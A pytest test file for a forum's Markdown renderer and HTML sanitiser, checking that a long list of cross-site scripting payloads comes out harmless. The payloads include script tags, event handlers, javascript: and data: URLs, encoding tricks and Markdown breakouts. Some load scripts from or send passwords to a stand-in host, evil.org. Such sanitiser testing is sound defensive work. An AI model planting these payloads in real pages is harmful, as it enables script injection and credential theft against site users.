"""Texts written to do harm: nothing of them comes out but words and plain elements."""

import pytest

from forum.sanitising import sanitise
from forum.text import to_html

from .inspection import mistakes

PAYLOADS = [
    # scripts, plainly and in disguise
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.org/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=a()>'>",
    "<template><script>alert(1)</script></template>",
    # other elements
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src=//evil.org/x.swf>",
    "<form action=//evil.org><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<link rel=stylesheet href=//evil.org/x.css>",
    "<style>body{background:url(//evil.org)}</style>",
    "<base href=//evil.org/>",
    "<meta http-equiv=refresh content='0;url=//evil.org'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<live-topic data-topic=1></live-topic>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><!DOCTYPE x [<!ENTITY y 'z'>]>",
    # attributes
    "<p onclick=alert(1)>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p id=content>x</p><a id=csrf_token>y</a>",
    "<p class='btn main vh'>x</p>",
    "<a href='https://x.org' target=_blank onmouseover=alert(1)>x</a>",
    "<a name=getElementById>x</a>",
    "<div data-voice=abc contenteditable>x</div>",
    '<a href="https://x.org" rel="opener">x</a>',
    # addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x]( \x01javascript:alert(1))",
    "[x](&#106;&#97;vascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x.org/1)",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.org)",
    "[x](\\\\evil.org)",
    "[x](https:\\\\evil.org)",
    "<javascript:alert(1)>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    # breaking out of Markdown
    '[x](https://x.org"onmouseover="alert(1))',
    "[x](https://x.org '\" onmouseover=alert(1) x=\"')",
    '[x](<https://x.org" onclick="alert(1)>)',
    '![x](https://x.org/"onerror="alert(1))',
    '![x" onerror="alert(1)](y)',
    "[![x](y)](javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: <data:text/html,x> "t" onclick="alert(1)',
    "![x][r]\n\n[r]: https://evil.org/track.png",
    'https://x.org/"onmouseover="alert(1)',
    "https://x.org/<script>alert(1)</script>",
    "https://x.org/`<script>alert(1)</script>`",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "``` {onclick=alert(1) .x #content}\nx\n```",
    "# x {: onclick=alert(1) #content }",
    "[x](https://x.org){: onclick=alert(1) }",
    '[^"><script>alert(1)</script>]: x\n\n[^"><script>alert(1)</script>]',
    "[^content]\n\n[^content]: [x](javascript:alert(1))",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| a |\n|:-:{onclick=alert(1)}|\n| b |",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "~~<img src=x onerror=alert(1)>~~",
    "> <script>\n> alert(1)\n> </script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x02klzzwxh:0000\x03<script>\x02klzzwxh:0001\x03",
    "\x02amp\x03lt;script>",
    "\ue000x](javascript:alert(1))",
    "＜script＞alert(1)＜/script＞",
    "<\x00script>alert(1)</script>",
    "<p/title='<a href=javascript:alert(1)>'>x",
    '<a href="https://x.org\x00" onclick=alert(1)>',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_text_becomes_words_and_plain_elements(payload):
    assert mistakes(to_html(payload, "a")) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_last_gate_alone_lets_nothing_hostile_through(payload):
    assert mistakes(sanitise(payload)) == []


@pytest.mark.parametrize(
    "html",
    [
        "<script>",
        "<svg/onload=a()>",
        "<a href='javascript:a()'>",
        "<a href=' javascript:a()'>",
        "<a href='//evil.org'>",
        "<a href='/sign-out'>",
        "<a href='data:text/html,x'>",
        "<p id=content>",
        "<p class=btn>",
        "<p style=x>",
        "<p onclick=x>",
        "<p href='https://x.org'>",
        "<a target=_blank>",
        "<!-- x -->",
        "<!doctype x>",
        "<?x?>",
    ],
)
def test_the_inspection_finds_what_is_hostile(html):
    assert mistakes(html)


def test_the_inspection_lets_pass_what_is_allowed():
    html = to_html("**a** [b](https://x.org) c[^1]\n\n[^1]: d\n\n| a |\n|--:|\n| 1 |", "a")
    assert "<strong>" in html
    assert "<table>" in html
    assert "footnote-backref" in html
    assert mistakes(html) == []
